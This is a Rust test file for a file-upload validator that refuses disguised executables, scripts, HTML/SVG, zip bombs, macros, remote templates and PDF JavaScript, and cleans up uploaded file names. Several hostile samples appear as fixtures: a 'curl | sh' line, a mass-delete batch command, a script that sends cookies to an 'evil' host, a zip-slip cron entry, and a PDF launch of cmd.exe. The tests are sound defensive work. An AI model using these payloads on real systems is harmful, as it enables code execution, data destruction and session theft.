//! `check`: what is kept and what is refused, with which code.

use tinhso_objects::{
    check, ArchiveLimits, ContentHash, FileType, TypeMismatch, UploadError, UploadPolicy,
};

use crate::fixtures::{self, deflated, stored, zip, zip_with, Entry};

fn policy() -> UploadPolicy {
    UploadPolicy::default()
}

fn code_of(
    result: Result<tinhso_objects::CheckedFile, UploadError>,
) -> (&'static str, Option<&'static str>) {
    let e = result.expect_err("expected a refusal");
    (e.code(), e.detail())
}

#[test]
fn valid_files_of_every_default_type_pass_with_their_hash_and_safe_name() {
    let cases: [(&str, Vec<u8>, FileType); 8] = [
        ("Giấy khai sinh.pdf", fixtures::pdf(), FileType::Pdf),
        ("ảnh chụp CCCD.jpg", fixtures::jpeg(64, 48), FileType::Jpeg),
        ("so-do.png", fixtures::png(16, 16), FileType::Png),
        (
            "IMG_20250701.webp",
            fixtures::webp_vp8x(1080, 1920),
            FileType::Webp,
        ),
        ("Đơn đề nghị.docx", fixtures::docx(), FileType::Docx),
        ("bang-ke.xlsx", fixtures::xlsx(), FileType::Xlsx),
        ("to-khai.odt", fixtures::odf("text"), FileType::Odt),
        ("bang-tinh.ods", fixtures::odf("spreadsheet"), FileType::Ods),
    ];
    for (name, bytes, expected) in cases {
        let checked = check(&policy(), name, &bytes).unwrap_or_else(|e| panic!("{name}: {e}"));
        assert_eq!(checked.file_type(), expected, "{name}");
        assert_eq!(checked.size(), bytes.len() as u64);
        assert_eq!(checked.sha256(), ContentHash::of(&bytes));
        assert_eq!(checked.sha256_hex().len(), 64);
        assert_eq!(checked.safe_name(), name, "the name was already safe");
        assert!(!checked.type_mismatch());
    }
}

#[test]
fn tiff_is_recognised_but_only_allowed_when_the_policy_says_so() {
    let tiff = fixtures::tiff(8, 8);
    assert_eq!(
        code_of(check(&policy(), "scan.tif", &tiff)),
        ("file_type_not_allowed", Some("tiff"))
    );
    let with_tiff = UploadPolicy {
        allowed: vec![FileType::Tiff],
        ..policy()
    };
    let checked = check(&with_tiff, "scan.tiff", &tiff).unwrap();
    assert_eq!(checked.file_type(), FileType::Tiff);
    assert_eq!(checked.safe_name(), "scan.tif");
    // A strip pointing past the end: a cut-short scan.
    assert_eq!(
        code_of(check(&with_tiff, "scan.tif", &tiff[..tiff.len() - 1])),
        ("file_damaged", Some("tiff_incomplete"))
    );
}

#[test]
fn empty_and_oversize_files_are_refused() {
    assert_eq!(
        code_of(check(&policy(), "a.pdf", b"")),
        ("empty_file", None)
    );
    let small = UploadPolicy {
        max_bytes: 1024,
        ..policy()
    };
    let big = fixtures::png(200, 200);
    assert!(big.len() > 1024);
    let error = check(&small, "big.png", &big).unwrap_err();
    assert_eq!(
        error,
        UploadError::FileTooLarge {
            size: big.len() as u64,
            max_bytes: 1024
        }
    );
    assert!(
        error.message_vi().contains("tối đa 1 KB"),
        "{}",
        error.message_vi()
    );
    // Exactly at the limit is fine.
    let at_limit = UploadPolicy {
        max_bytes: big.len() as u64,
        ..policy()
    };
    assert!(check(&at_limit, "big.png", &big).is_ok());
    // The default is 20 MiB: 20 MiB + 1 byte is refused before anything else is looked at.
    let over = vec![0u8; 20 * 1024 * 1024 + 1];
    assert_eq!(
        code_of(check(&policy(), "x.pdf", &over)),
        ("file_too_large", None)
    );
}

#[test]
fn disguised_executables_and_scripts_named_pdf_are_refused() {
    let cases: [(&[u8], &str); 4] = [
        (
            b"\x7FELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3E\0",
            "elf_executable",
        ),
        (
            b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xFF\xFF\0\0This program cannot be run in DOS mode",
            "pe_executable",
        ),
        (b"#!/bin/bash\ncurl http://x | sh\n", "script"),
        (b"@echo off\r\ndel /q C:\\*\r\n", "script"),
    ];
    for (bytes, label) in cases {
        for name in ["giay-to.pdf", "anh.jpg", "don.docx"] {
            assert_eq!(
                code_of(check(&policy(), name, bytes)),
                ("file_type_not_allowed", Some(label)),
                "{name}"
            );
        }
    }
}

#[test]
fn html_and_svg_are_refused_whatever_their_name() {
    let html = b"<html><head><script>document.location='//evil/?c='+document.cookie</script></head></html>";
    let svg = b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><script>alert(document.domain)</script></svg>";
    assert_eq!(
        code_of(check(&policy(), "scan.pdf", html)),
        ("file_type_not_allowed", Some("html"))
    );
    assert_eq!(
        code_of(check(&policy(), "logo.png", svg)),
        ("file_type_not_allowed", Some("svg"))
    );
    assert_eq!(
        code_of(check(&policy(), "logo.svg", svg)),
        ("file_type_not_allowed", Some("svg"))
    );
    // A polyglot whose PDF header is not at the very start is not a PDF.
    let mut polyglot = b"<html><script>alert(1)</script>".to_vec();
    polyglot.extend_from_slice(&fixtures::pdf());
    assert_eq!(
        code_of(check(&policy(), "x.pdf", &polyglot)),
        ("file_type_not_allowed", Some("html"))
    );
}

#[test]
fn a_name_whose_extension_lies_is_recorded_by_default_and_refused_on_request() {
    let png = fixtures::png(8, 8);
    let checked = check(&policy(), "hop-dong.pdf", &png).unwrap();
    assert_eq!(checked.file_type(), FileType::Png);
    assert!(checked.type_mismatch());
    assert_eq!(checked.declared_extension(), Some("pdf"));
    assert_eq!(
        checked.safe_name(),
        "hop-dong.png",
        "the download gets the true extension"
    );

    // No extension at all (phones, canvas uploads) is not a mismatch.
    let checked = check(&policy(), "blob", &png).unwrap();
    assert!(!checked.type_mismatch());
    assert_eq!(checked.safe_name(), "blob.png");
    // Alias extensions and upper case are not mismatches either.
    let jpeg = fixtures::jpeg(8, 8);
    assert!(!check(&policy(), "IMG_0001.JPEG", &jpeg)
        .unwrap()
        .type_mismatch());
    // A dangerous extension never survives into the safe name.
    assert_eq!(
        check(&policy(), "virus.exe", &fixtures::pdf())
            .unwrap()
            .safe_name(),
        "virus.pdf"
    );

    let strict = UploadPolicy {
        on_type_mismatch: TypeMismatch::Reject,
        ..policy()
    };
    let error = check(&strict, "hop-dong.pdf", &png).unwrap_err();
    assert_eq!(
        error,
        UploadError::FileTypeMismatch {
            declared_extension: "pdf".into(),
            detected: FileType::Png
        }
    );
    assert!(error
        .message_vi()
        .starts_with("Tên tệp có đuôi .pdf nhưng nội dung là tệp PNG"));
    assert!(check(&strict, "hop-dong.png", &png).is_ok());
}

#[test]
fn truncated_uploads_are_refused_as_damaged() {
    let pdf = fixtures::pdf();
    assert_eq!(
        code_of(check(&policy(), "a.pdf", &pdf[..pdf.len() / 2])),
        ("file_damaged", Some("pdf_incomplete"))
    );
    let png = fixtures::png(32, 32);
    assert_eq!(
        code_of(check(&policy(), "a.png", &png[..png.len() - 12])),
        ("file_damaged", Some("png_incomplete"))
    );
    let jpeg = fixtures::jpeg(64, 64);
    assert_eq!(
        code_of(check(&policy(), "a.jpg", &jpeg[..jpeg.len() - 2])),
        ("file_damaged", Some("jpeg_incomplete"))
    );
    let webp = fixtures::webp_vp8x(100, 100);
    assert_eq!(
        code_of(check(&policy(), "a.webp", &webp[..webp.len() - 3])),
        ("file_damaged", Some("webp_incomplete"))
    );
    let docx = fixtures::docx();
    // Cut inside the central directory: the end record is gone, so it is not even recognised.
    assert_eq!(
        check(&policy(), "a.docx", &docx[..docx.len() - 30])
            .unwrap_err()
            .code(),
        "file_type_not_allowed"
    );

    // Bit rot inside a PNG chunk is caught by its CRC.
    let mut flipped = png.clone();
    let middle = flipped.len() / 2;
    flipped[middle] ^= 0x40;
    assert_eq!(
        code_of(check(&policy(), "a.png", &flipped)),
        ("file_damaged", Some("png_chunk_crc_mismatch"))
    );

    // Bytes after the end of an image (phones append metadata) are tolerated.
    let mut trailing = jpeg.clone();
    trailing.extend_from_slice(b"SEFT trailer written by a phone");
    assert!(check(&policy(), "a.jpg", &trailing).is_ok());
}

#[test]
fn image_bombs_are_refused_by_their_declared_size() {
    let bomb = fixtures::png(100_000, 100_000);
    assert!(bomb.len() < 2_000, "a tiny file: {}", bomb.len());
    let error = check(&policy(), "bomb.png", &bomb).unwrap_err();
    assert_eq!(
        error,
        UploadError::ImageTooLarge {
            width: 100_000,
            height: 100_000,
            max_pixels: 1 << 28
        }
    );
    assert!(error.message_vi().contains("100000×100000"));
    let jpeg = fixtures::jpeg(65_528, 65_528);
    assert_eq!(
        code_of(check(&policy(), "bomb.jpg", &jpeg)),
        ("image_too_large", None)
    );
    let webp = fixtures::webp_vp8x(1 << 20, 1 << 20);
    assert_eq!(
        code_of(check(&policy(), "bomb.webp", &webp)),
        ("image_too_large", None)
    );
    // A 200-megapixel phone photo header is within the default.
    assert!(check(&policy(), "big.webp", &fixtures::webp_vp8x(16_320, 12_240)).is_ok());
    // A zero-sized image is broken, not small.
    assert_eq!(
        code_of(check(&policy(), "zero.png", &fixtures::png(0, 10))),
        ("file_damaged", Some("image_without_pixels"))
    );
}

#[test]
fn declared_dimensions_are_read_exactly() {
    let all = UploadPolicy {
        allowed: FileType::ALL.to_vec(),
        ..policy()
    };
    let mut cases: Vec<(Vec<u8>, u64, u64)> = vec![
        (fixtures::png(7, 5), 7, 5),
        (fixtures::jpeg(24, 16), 24, 16),
        (fixtures::tiff(6, 3), 6, 3),
        (fixtures::webp_vp8x(300, 200), 300, 200),
    ];
    cases.extend(
        fixtures::webp_libwebp()
            .into_iter()
            .map(|bytes| (bytes, 3, 2)),
    );
    for (bytes, width, height) in cases {
        let pixels = width * height;
        let exact = UploadPolicy {
            max_pixels: pixels,
            ..all.clone()
        };
        assert!(
            check(&exact, "i", &bytes).is_ok(),
            "{width}×{height} within {pixels}"
        );
        let below = UploadPolicy {
            max_pixels: pixels - 1,
            ..all.clone()
        };
        assert_eq!(
            check(&below, "i", &bytes).unwrap_err(),
            UploadError::ImageTooLarge {
                width,
                height,
                max_pixels: pixels - 1
            }
        );
    }
}

#[test]
fn zip_bomb_with_a_huge_declared_size_is_refused_without_inflating() {
    let mut entries = fixtures::docx_entries("x");
    entries.push(Entry {
        declared_size: Some(0xFFFF_FFF0),
        ..deflated("word/media/big.bin", &[0u8; 1024])
    });
    let bomb = zip(&entries);
    assert!(bomb.len() < 4096);
    assert_eq!(
        code_of(check(&policy(), "bomb.docx", &bomb)),
        ("archive_bomb", Some("uncompressed_size_over_limit"))
    );
}

#[test]
fn zip_bomb_that_understates_its_size_is_stopped_while_inflating() {
    let mut entries = fixtures::docx_entries("x");
    // Declares 1 KiB, inflates to 8 MiB of zeros.
    entries.push(Entry {
        declared_size: Some(1024),
        ..deflated("word/media/image1.png", &vec![0u8; 8 << 20])
    });
    let bomb = zip(&entries);
    assert!(bomb.len() < 64 * 1024, "{}", bomb.len());
    assert_eq!(
        code_of(check(&policy(), "bomb.docx", &bomb)),
        ("archive_bomb", Some("size_understated"))
    );
}

#[test]
fn honest_archives_over_the_budget_or_with_too_many_entries_are_refused() {
    let tight = UploadPolicy {
        archive: ArchiveLimits {
            max_entries: 10,
            max_uncompressed_bytes: 1 << 20,
        },
        ..policy()
    };
    let mut entries = fixtures::docx_entries("x");
    entries.push(deflated("word/media/zeros.bin", &vec![0u8; 2 << 20]));
    assert_eq!(
        code_of(check(&tight, "big.docx", &zip(&entries))),
        ("archive_bomb", Some("uncompressed_size_over_limit"))
    );

    let mut many = fixtures::docx_entries("x");
    for i in 0..20 {
        many.push(deflated(&format!("word/media/image{i}.png"), b"x"));
    }
    assert_eq!(
        code_of(check(&tight, "many.docx", &zip(&many))),
        ("archive_bomb", Some("too_many_entries"))
    );
    // The same document passes the default limits.
    assert!(check(&policy(), "many.docx", &zip(&many)).is_ok());
}

#[test]
fn overlapping_entries_are_refused() {
    let mut entries = vec![deflated("word/document.xml", b"<w:document/>")];
    entries.extend(
        fixtures::docx_entries("x")
            .into_iter()
            .filter(|e| e.name != "word/document.xml"),
    );
    let overlapping = zip_with(&entries, true);
    assert_eq!(
        code_of(check(&policy(), "o.docx", &overlapping)),
        ("archive_bomb", Some("overlapping_entries"))
    );
}

#[test]
fn embedded_archives_count_against_the_budget() {
    let inner_bomb = zip(&[Entry {
        declared_size: Some(0xFFFF_0000),
        ..deflated("a.xml", b"<a/>")
    }]);
    let mut entries = fixtures::docx_entries("x");
    entries.push(stored(
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx",
        &inner_bomb,
    ));
    assert_eq!(
        code_of(check(&policy(), "n.docx", &zip(&entries))),
        ("archive_bomb", Some("nested_archive"))
    );
    // An ordinary embedded workbook is fine.
    let mut entries = fixtures::docx_entries("x");
    entries.push(stored(
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx",
        &fixtures::xlsx(),
    ));
    assert!(check(&policy(), "n.docx", &zip(&entries)).is_ok());
}

#[test]
fn corrupted_zip_entries_are_damaged() {
    let mut docx = fixtures::docx();
    // Flip a byte inside the first entry's compressed data (after its 30-byte header and name).
    let at = 30 + "[Content_Types].xml".len() + 20;
    docx[at] ^= 0xFF;
    let (code, _) = code_of(check(&policy(), "c.docx", &docx));
    assert!(code == "file_damaged" || code == "archive_bomb", "{code}");

    // Bit rot in a stored entry is caught by its CRC.
    let photo = fixtures::png(4, 4);
    let mut entries = vec![stored("word/media/image1.png", &photo)];
    entries.extend(fixtures::docx_entries("x"));
    let mut docx = zip(&entries);
    let at = 30 + "word/media/image1.png".len() + photo.len() / 2;
    docx[at] ^= 0x01;
    assert_eq!(
        code_of(check(&policy(), "c.docx", &docx)),
        ("file_damaged", Some("zip_entry_crc_mismatch"))
    );
}

#[test]
fn macros_and_fetched_external_references_are_active_content() {
    let mut docm = fixtures::docx_entries("x");
    docm.push(stored(
        "word/vbaProject.bin",
        b"\xD0\xCF\x11\xE0 macro storage",
    ));
    assert_eq!(
        code_of(check(&policy(), "m.docx", &zip(&docm))),
        ("active_content", Some("macro"))
    );

    let mut ole = fixtures::docx_entries("x");
    ole.push(stored(
        "word/embeddings/oleObject1.bin",
        b"\xD0\xCF\x11\xE0 package",
    ));
    assert_eq!(
        code_of(check(&policy(), "o.docx", &zip(&ole))),
        ("active_content", Some("ole_object"))
    );

    // A content-types part declaring a macro-enabled main part.
    let mut declared = fixtures::docx_entries("x");
    declared[0] = deflated(
        "[Content_Types].xml",
        br#"<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>"#,
    );
    assert_eq!(
        code_of(check(&policy(), "d.docx", &zip(&declared))),
        ("active_content", Some("macro"))
    );

    // A remote template, fetched when the document opens.
    let mut remote = fixtures::docx_entries("x");
    remote.push(deflated(
        "word/_rels/settings.xml.rels",
        br#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>"#,
    ));
    assert_eq!(
        code_of(check(&policy(), "r.docx", &zip(&remote))),
        ("active_content", Some("external_reference"))
    );
    // An external hyperlink is harmless.
    let mut link = fixtures::docx_entries("x");
    link.push(deflated(
        "word/_rels/document.xml.rels",
        br#"<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://dichvucong.gov.vn" TargetMode="External"/></Relationships>"#,
    ));
    assert!(check(&policy(), "l.docx", &zip(&link)).is_ok());

    // ODF Basic macros.
    let mut odt_entries = vec![stored(
        "mimetype",
        b"application/vnd.oasis.opendocument.text",
    )];
    odt_entries.push(deflated("content.xml", b"<office:document-content/>"));
    odt_entries.push(deflated("Basic/Standard/Module1.xml", b"<script:module/>"));
    assert_eq!(
        code_of(check(&policy(), "m.odt", &zip(&odt_entries))),
        ("active_content", Some("macro"))
    );

    // The check can be turned off (for a closed internal flow that needs macros).
    let lenient = UploadPolicy {
        reject_active_content: false,
        ..policy()
    };
    assert!(check(&lenient, "m.docx", &zip(&docm)).is_ok());
}

#[test]
fn unsafe_entry_names_are_refused() {
    let mut slip = fixtures::docx_entries("x");
    slip.push(deflated("../../../../etc/cron.d/x", b"* * * * * root sh"));
    assert_eq!(
        code_of(check(&policy(), "s.docx", &zip(&slip))),
        ("file_type_not_allowed", Some("unsafe_archive_entry_name"))
    );
}

#[test]
fn pdf_javascript_and_launch_actions_are_active_content() {
    let js = fixtures::pdf_with("/AA << /O << /S /JavaScript /JS (app.alert(1)) >> >>");
    assert_eq!(
        code_of(check(&policy(), "js.pdf", &js)),
        ("active_content", Some("pdf_javascript"))
    );
    // Hex escapes in names do not hide it.
    let escaped = fixtures::pdf_with("/AA << /O << /S /J#61vaScript /J#53 (app.alert(1)) >> >>");
    assert_eq!(
        code_of(check(&policy(), "js.pdf", &escaped)),
        ("active_content", Some("pdf_javascript"))
    );
    assert!(check(&policy(), "js.pdf", &escaped)
        .unwrap_err()
        .message_vi()
        .contains("in lại ra PDF"));
    let launch = fixtures::pdf_with("/AA << /O << /S /Launch /F (cmd.exe) >> >>");
    assert_eq!(
        code_of(check(&policy(), "l.pdf", &launch)),
        ("active_content", Some("pdf_launch_action"))
    );
    // Stream data (binary images, text) is not read as names.
    let in_stream = fixtures::pdf();
    let text = String::from_utf8_lossy(&in_stream).replace("(Giay khai sinh)", "(/JS /JavaScript)");
    assert!(check(&policy(), "ok.pdf", text.as_bytes()).is_ok());
    // Names that merely start alike are not actions.
    assert!(check(
        &policy(),
        "ok.pdf",
        &fixtures::pdf_with("/JSON 1 /JavaScripts 2")
    )
    .is_ok());
}

#[test]
fn names_are_sanitized_into_safe_metadata() {
    let pdf = fixtures::pdf();
    let cases = [
        ("../../etc/passwd", "passwd.pdf"),
        ("C:\\x\\y.pdf", "y.pdf"),
        ("bad\0name\n.pdf", "bad name.pdf"),
        ("\u{202E}fdp.exe", "fdp.pdf"),
        ("", "tep-dinh-kem.pdf"),
        ("...", "tep-dinh-kem.pdf"),
        ("CON.pdf", "_CON.pdf"),
        ("Quyết định số 12/QĐ-UBND.pdf", "QĐ-UBND.pdf"),
    ];
    for (declared, expected) in cases {
        assert_eq!(
            check(&policy(), declared, &pdf).unwrap().safe_name(),
            expected,
            "{declared:?}"
        );
    }
    let absurd = "a".repeat(5000);
    assert_eq!(
        code_of(check(&policy(), &absurd, &pdf)),
        ("invalid_file_name", Some("too_long"))
    );
    let long = format!("{}.pdf", "Giấy chứng nhận quyền sử dụng đất ".repeat(10));
    let safe = check(&policy(), &long, &pdf).unwrap();
    assert!(safe.safe_name().ends_with(".pdf") && safe.safe_name().chars().count() <= 120);
}

#[test]
fn error_messages_are_vietnamese_first() {
    let error = UploadError::FileDamaged {
        reason: "pdf_incomplete",
    };
    assert_eq!(
        error.to_string(),
        format!("{} / {}", error.message_vi(), error.message_en())
    );
    assert!(error
        .to_string()
        .starts_with("Tệp bị hỏng hoặc tải lên chưa trọn vẹn"));
}
